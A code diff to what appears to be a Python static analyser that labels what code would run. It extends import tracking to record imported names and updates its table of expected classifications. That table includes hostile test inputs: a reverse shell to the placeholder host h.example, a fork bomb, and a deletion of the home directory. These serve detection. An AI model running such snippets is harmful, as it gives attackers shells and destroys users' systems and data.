@@ -562,7 +562,7 @@ class _Reader(Reader):
                     self.bind(alias.asname or module.partition(".")[0], OWN)
             return
         module = node.module or ""
-        if node.level or not self._importable(module):
+        if node.level or not self._importable(module, *[alias.name for alias in node.names]):
             if node.level:
                 self.doubt("a relative import")
             for alias in node.names:
@@ -580,8 +580,8 @@ class _Reader(Reader):
             if module != "__future__":
                 self.bind(alias.asname or alias.name, self._member(module, alias.name))
 
-    def _importable(self, module: str) -> bool:
-        """Whether importing it runs nothing of the project's; what it runs else is told."""
+    def _importable(self, module: str, *names: str) -> bool:
+        """Whether importing it, or names from it, runs nothing of the project's; what it runs else is told."""
         import sys
 
         top = module.partition(".")[0]
@@ -597,7 +597,7 @@ class _Reader(Reader):
         if self.folders:
             self.doubt(f"import {module} out of another folder")
         else:
-            self.out.append(RunFile(module, "python-module"))
+            self.out.append(RunFile(module, "python-module", names))
         return False
 
     def of_own(self, name: str) -> Value:
@@ -2582,11 +2582,11 @@ EXAMPLES: tuple[tuple[str, str], ...] = (
     ("import socket,os,pty\ns=socket.socket()\ns.connect(('h.example',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')", "network connect h.example; run /bin/sh; network shell h.example"),
     ("import os\nwhile True: os.fork()", "system fork bomb the process table !critical"),
     ("import shop", "file python-module shop"),
-    ("from shop.cart import total; print(total(3))", "file python-module shop.cart"),
-    ("from shop import os; os.system('id')", "file python-module shop; shell 'id'"),
+    ("from shop.cart import total; print(total(3))", "file python-module shop.cart total"),
+    ("from shop import os; os.system('id')", "file python-module shop os; shell 'id'"),
     ("import shop; shop.os.system('id')", "file python-module shop; shell 'id'"),
-    ("from shop import rmtree; rmtree('a')", "file python-module shop; delete a recursive"),
-    ("from shop import __builtins__ as b", "file python-module shop; execute the attribute __builtins__ inline python code !uncertain"),
+    ("from shop import rmtree; rmtree('a')", "file python-module shop rmtree; delete a recursive"),
+    ("from shop import __builtins__ as b", "file python-module shop __builtins__; execute the attribute __builtins__ inline python code !uncertain"),
     ("import os; os.chdir('/tmp'); import shop", "execute import shop out of another folder inline python code !uncertain"),
     ("().__class__.__mro__", "execute the attribute __class__ inline python code !uncertain; execute the attribute __mro__ inline python code !uncertain"),
     ("import shutil, os; shutil.rmtree(os.path.expanduser('~'))", "shell 'rm -r -- ~'"),
